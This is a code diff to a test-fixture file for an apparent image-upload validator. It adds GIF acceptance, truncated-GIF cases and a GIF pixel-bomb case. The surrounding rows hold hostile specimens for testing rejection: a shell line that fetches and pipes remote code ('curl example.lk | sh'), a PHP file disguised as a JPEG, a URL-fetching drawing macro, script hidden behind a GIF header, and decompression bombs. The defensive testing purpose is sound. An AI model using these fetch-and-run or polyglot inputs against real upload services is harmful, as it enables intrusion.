@@ -4,7 +4,19 @@
  */
 import { deflateSync } from 'node:zlib';
 import type { FileRefusal } from '../media/media.ts';
-import { GIF, heic, jpeg, picture, png, pngChunk, pngClaiming, pngOf, withPlace, ZIP } from './image-files.ts';
+import {
+  GIF,
+  gifClaiming,
+  heic,
+  jpeg,
+  picture,
+  png,
+  pngChunk,
+  pngClaiming,
+  pngOf,
+  withPlace,
+  ZIP,
+} from './image-files.ts';
 import { hiddenScript, linkTo, objectStream, pdfWith, SCRIPT } from './pdf-files.ts';
 
 export interface Specimen {
@@ -47,7 +59,7 @@ function texts(): Row[] {
     ],
     ['a page', refused, `<!doctype html>${SCRIPT_TAG}`],
     ['a page under its own name', refused, `<html>${SCRIPT_TAG}</html>`, 'a.html', 'text/html'],
-    ['a page behind a comment that looks like a GIF', refused, `GIF89a/*${SCRIPT_TAG}*/`],
+    ['a page behind a comment that looks like a GIF', 'file_unreadable', `GIF89a/*${SCRIPT_TAG}*/`],
     ['a program for the server', refused, PHP, 'photo.php.jpg'],
     ['a program of a shell', refused, '#!/bin/sh\ncurl example.lk | sh', 'photo.sh'],
     ['a macro of a drawing program', refused, 'push graphic-context\nfill url(https://example.lk/)', 'a.mvg'],
@@ -66,8 +78,6 @@ function archives(): Row[] {
     ['an archive', refused, ZIP],
     ['a program of Windows', refused, 'MZ\x90\0\x03\0\0\0', 'photo.jpg.exe'],
     ['a program of Linux', refused, '\x7fELF\x02\x01\x01\0'],
-    ['a GIF', refused, GIF, 'a.gif', 'image/gif'],
-    ['a GIF with an archive behind it', refused, Buffer.concat([GIF, ZIP])],
     ['a bitmap', refused, 'BM\x3a\0\0\0\0\0\0\0\x36\0\0\0', 'a.bmp', 'image/bmp'],
     ['a TIFF', refused, 'II*\0\x08\0\0\0\0\0', 'a.tiff', 'image/tiff'],
     ['an icon', refused, '\0\0\x01\0\x01\0', 'a.ico'],
@@ -134,23 +144,25 @@ async function pictures(): Promise<Row[]> {
     ['a JPEG in shades of grey', 'jpeg', await picture(64, 64).greyscale().jpeg().toBuffer()],
     ['a PNG of deep colours', 'jpeg', await picture(64, 64).toColourspace('rgb16').png().toBuffer()],
     ['a PNG with few colours', 'jpeg', await picture(64, 64).png({ palette: true, colours: 4 }).toBuffer()],
+    ['a GIF', 'jpeg', GIF, 'a.gif', 'image/gif'],
+    ['a GIF with an archive behind it', 'jpeg', Buffer.concat([GIF, ZIP])],
     ['a picture of one pixel', 'jpeg', await png(1, 1)],
     ['a picture as thin as a thread', 'jpeg', await png(9_000, 1)],
-    [
-      'a WebP that moves',
-      'jpeg',
-      await sharp(await animated, { raw: { width: 64, height: 128, channels: 3, pageHeight: 64 } })
-        .webp()
-        .toBuffer(),
-    ],
+    ...(await Promise.all(
+      (['webp', 'gif'] as const).map(async (format): Promise<Row> => {
+        const frames = sharp(await animated, { raw: { width: 64, height: 128, channels: 3, pageHeight: 64 } });
+        return [`a ${format === 'gif' ? 'GIF' : 'WebP'} that moves`, 'jpeg', await frames.toFormat(format).toBuffer()];
+      }),
+    )),
   ];
 }
 
 async function broken(): Promise<Row[]> {
   const refused = 'file_unreadable';
-  const [photo, drawing, small] = [
+  const [photo, drawing, moving, small] = [
     await jpeg(),
     await png(),
+    await picture(640, 480).gif().toBuffer(),
     await picture(640, 480).webp({ lossless: true }).toBuffer(),
   ];
   const wrongSum = Buffer.from(drawing);
@@ -158,6 +170,9 @@ async function broken(): Promise<Row[]> {
   return [
     ['half a JPEG', refused, photo.subarray(0, photo.length / 2)],
     ['half a PNG', refused, drawing.subarray(0, drawing.length / 2)],
+    ['half a GIF', refused, moving.subarray(0, moving.length / 2)],
+    ['the first bytes of a GIF', refused, GIF.subarray(0, 6)],
+    ['noise that begins like a GIF', refused, `GIF89a${'noise'.repeat(50)}`],
     ['half a WebP', refused, small.subarray(0, small.length / 2)],
     ['the first bytes of a JPEG', refused, photo.subarray(0, 4)],
     ['the first bytes of a PNG', refused, drawing.subarray(0, 8)],
@@ -175,6 +190,7 @@ function bombs(): Row[] {
     ['a PNG of 2,500 megapixels', 'file_too_many_pixels', claiming(50_000, 50_000)],
     ['a PNG of 41 megapixels', 'file_too_many_pixels', claiming(8_200, 5_000)],
     ['a PNG as wide as can be', 'file_too_many_pixels', claiming(1_000_000, 50)],
+    ['a GIF of 4,000 megapixels', 'file_too_many_pixels', gifClaiming(65_535, 65_535)],
     ['a PNG whose pixels are missing', 'file_unreadable', claiming(6_000, 6_000)],
     ['a PNG with a bomb in its words', 'jpeg', wordBomb()],
     ['11 MB', 'file_too_large', Buffer.concat([GIF, Buffer.alloc(10 * 2 ** 20)])],
